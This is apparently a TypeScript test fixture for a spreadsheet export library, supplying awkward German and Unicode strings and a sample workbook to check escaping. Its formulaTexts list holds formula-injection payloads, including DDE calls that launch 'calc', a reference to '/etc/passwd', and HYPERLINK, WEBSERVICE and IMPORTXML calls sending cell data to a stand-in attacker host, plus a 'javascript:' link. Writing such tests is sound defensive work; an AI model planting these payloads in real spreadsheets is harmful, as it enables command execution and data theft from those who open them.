import type { Cell, Workbook } from '../../app/lib/spreadsheet/workbook'

/** Texts that break a careless writer of XML, paragraphs, shared strings or ranges. */
export const awkwardTexts: readonly string[] = [
  'Größe, Maß & „Güte“ – 100 %',
  '<b>fett</b> & &amp; "zitiert" \'einfach\'',
  'eine Zeile\nnoch eine\n\nnach einer leeren',
  ' vorn zwei  und hinten ',
  '\tTabulator\tmitten',
  '  ',
  ']]> <![CDATA[ <!-- -->',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '_x0041_ und _x005F_ und _X0042_',
  '_x000D_',
  '123456',
  '007',
  '1-2',
  '2026-11-28',
  'WAHR',
  'TRUE',
  "'mit Apostroph",
  'Emoji 👩‍💻 und 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\ufffd ersetzt',
  'e\u0301 zerlegt, \u00a0 geschützt, \u00ad weich',
  'x'.repeat(32_767),
  'y'.repeat(100_000),
  'a\u202eb\u0007c\ud800d\ufffee\u2028f\r\ng',
  'https://beispiel.example/',
  '{=1+1}',
  '%0A=1+1',
]

/** Texts that a spreadsheet program would read as a formula, and what hides one. */
export const formulaTexts: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://angriff.example/?"&A1,"hier")',
  "=cmd|' /C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=WEBSERVICE("http://angriff.example/")',
  '=IMPORTXML("http://angriff.example/","//a")',
  '\t=1+1',
  '\n=1+1',
  '\r=1+1',
  ';=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '"=1+1',
  "'=1+1",
  '„=1+1',
  '" =1+1"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '；=1+1',
  '﹦1+1',
  '\u22121+1',
  '=\u03381',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  "-2+3+cmd|' /C calc'!A0",
]

const text = (value: string): Cell => ({ type: 'text', text: value, style: 'value' })

/** Everything that the model can say, in a workbook of a few sheets. */
export function sampleWorkbook(): Workbook {
  return {
    language: 'de',
    title: 'Vergleich <alles> & mehr',
    createdAt: '2026-11-28T09:30:00Z',
    creator: 'Beispielamt "Muster"',
    subject: 'Probe',
    description: 'Zeile eins\nZeile zwei',
    keywords: ['eins', 'zwei & drei'],
    styles: { 'own style': { bold: true, color: '#003366', align: 'center', vertical: 'center' } },
    sheets: [
      {
        name: "Werte & 'echte' Zahlen",
        columns: [{ width: 60, style: 'label' }, { width: 30.5 }, { width: 30 }, { width: 45, style: 'number' }],
        headerRows: { from: 2, count: 1 },
        headerColumns: 1,
        frozen: { rows: 3, columns: 1 },
        filter: { from: { row: 2, column: 0 }, to: { row: 13, column: 3 } },
        print: {
          header: { left: ['Vergleich & Co. 5 %'], right: [{ field: 'sheet' }] },
          footer: { center: ['Seite ', { field: 'page' }, ' von ', { field: 'pages' }], left: ['12 Punkte\nund mehr'] },
        },
        rows: [
          { cells: [{ type: 'text', text: 'Überschrift', style: 'title', columnSpan: 4 }], height: 12 },
          { cells: [null, { type: 'text', text: 'zwei mal zwei', style: 'own style', columnSpan: 2, rowSpan: 2 }] },
          { cells: [{ type: 'text', text: 'Kopf', style: 'header' }, null, null, { type: 'empty', style: 'header' }] },
          { cells: [text('ganz'), { type: 'number', value: 6280793 }, { type: 'number', value: -5 }] },
          {
            cells: [
              text('genau'),
              { type: 'number', value: '1234.500' },
              { type: 'number', value: '-0.001', decimals: 2 },
            ],
          },
          { cells: [text('Jahr'), { type: 'number', value: 2026, plain: true }, { type: 'number', value: 0.1 + 0.2 }] },
          { cells: [text('Euro'), { type: 'money', cents: 123456 }, { type: 'money', cents: -5 }] },
          {
            cells: [
              text('Anteil'),
              { type: 'percent', share: { numerator: 1n, denominator: 3n } },
              { type: 'percent', share: '0.125' },
            ],
          },
          { cells: [text('Tag'), { type: 'date', date: '2026-11-28' }, { type: 'date', date: '1899-12-31' }] },
          {
            cells: [
              text('Zeit'),
              { type: 'dateTime', instant: '2026-07-01T22:30:05Z' },
              { type: 'dateTime', instant: '2026-11-28T09:30:00Z' },
            ],
          },
          {
            cells: [text('ja'), { type: 'boolean', value: true }, { type: 'boolean', value: false, style: 'positive' }],
          },
          { cells: [text('zu lang'), { type: 'number', value: '12345678901234567890.5' }, { type: 'empty' }] },
          { cells: [] },
          {
            cells: [
              { type: 'text', text: 'Verweis', link: 'https://beispiel.example/?a=1&b=2' },
              { type: 'text', text: 'falsch', link: 'javascript:alert(1)' },
              { type: 'text', text: 'zwei\nZeilen', link: 'http://beispiel.example/' },
            ],
          },
        ],
      },
      {
        name: 'Texte',
        columns: [{ width: 80, style: 'value' }, { width: 80 }],
        print: { orientation: 'portrait', fitToWidth: false },
        rows: [...awkwardTexts, ...formulaTexts].map((value) => ({ cells: [{ type: 'text', text: value }] })),
      },
      { name: 'leer', columns: [{ width: 20 }], rows: [] },
    ],
  }
}
